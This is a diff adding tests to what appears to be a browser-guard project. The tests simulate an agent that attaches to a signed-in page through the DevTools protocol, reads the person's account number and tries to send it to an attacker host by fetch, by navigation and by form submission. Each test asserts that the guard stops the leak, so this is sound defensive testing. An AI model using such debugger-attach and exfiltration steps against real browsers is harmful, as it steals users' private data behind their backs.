@@ -7,8 +7,10 @@ import { join } from 'node:path';
 import { test } from 'node:test';
 import { patiently } from '../agents/locate.mjs';
 import { handMissing, handOn, openBrowser, openScreen } from '../agents/person.mjs';
+import { launchOnPipe } from '../agents/pipe.mjs';
 import { playwrightHands } from '../agents/playwright.mjs';
 import { file, page, raw } from '../sites/html.mjs';
+import { leaked } from '../sites/leaks.mjs';
 import { flagsFor, startSites } from '../sites/server.mjs';
 import { HOSTS, PERSON, urlOf } from '../sites/world.mjs';
 import { extension } from './with-guard.mjs';
@@ -128,6 +130,61 @@ test('an extension attaches to a page that was there before, and only reads', {
   assert.equal(Number(read), PERSON.account.length, 'the extension could not read the page');
   assert.equal(taken, 0);
 });
+
+/** What an agent that was given the address of a running browser does with its open pages: it attaches, and evaluates. */
+const WAYS_OFF = {
+  'by a request of its own': ({ evaluate }) =>
+    evaluate(`fetch('${urlOf('attacker', '/c')}', { mode: 'no-cors', method: 'POST', body: '${PERSON.account}' })`),
+  'by an address': ({ call }) =>
+    call('Page.navigate', { url: `${urlOf('attacker', '/c')}?d=${encodeURIComponent(PERSON.account)}` }),
+  'by the attacker’s form, in another tab': async ({ send, attach }) => {
+    const { targetId } = await send('Target.createTarget', { url: urlOf('attacker', '/verify') });
+    await later(1_500);
+    const { evaluate } = await attach(targetId);
+    await evaluate(
+      `document.querySelector('[name=notes]').value = '${PERSON.account}'; document.querySelector('form').requestSubmit()`,
+    );
+  },
+};
+/** What a model takes at least to answer. */
+const THOUGHT_MS = 2_500;
+
+for (const [way, sendOff] of Object.entries(WAYS_OFF))
+  test(`a debugger comes to a signed-in page that was open, reads it, and sends it off ${way}`, {
+    timeout: 60_000,
+  }, async () => {
+    const pages = () => page({ title: 'Door', name: 'Door', body: raw(SIGNS_IN) });
+    const sites = await startSites({ extra: { [DOOR]: pages } });
+    const { send, close } = await launchOnPipe({ extension, args: flagsFor(sites, [DOOR]) });
+    try {
+      await later(2_000);
+      const { targetId } = await send('Target.createTarget', { url: `http://${DOOR}/` });
+      await patiently(
+        () => sites.world.visits.some(({ path }) => path === '/account'),
+        'that the person signs in',
+        15_000,
+      );
+      // Nobody is attached, and nobody is told of anything.
+      await later(2_500);
+      const attach = async (id) => {
+        const { sessionId } = await send('Target.attachToTarget', { targetId: id, flatten: true });
+        const call = (method, params) => send(method, params, sessionId);
+        const evaluate = async (expression) =>
+          (await call('Runtime.evaluate', { expression, awaitPromise: true, returnByValue: true })).result.value;
+        return { call, evaluate };
+      };
+      const agent = await attach(targetId);
+      const read = await agent.evaluate("document.querySelector('#account').textContent");
+      await later(THOUGHT_MS);
+      await sendOff({ ...agent, send, attach });
+      await later(1_500);
+      assert.equal(read, PERSON.account);
+      assert.deepEqual(leaked(sites.collector.records, { account: PERSON.account }), []);
+    } finally {
+      await close();
+      await sites.close();
+    }
+  });
 
 test('open developer tools make nobody an agent', { timeout: 60_000, skip: handMissing() }, async () => {
   const told = [];
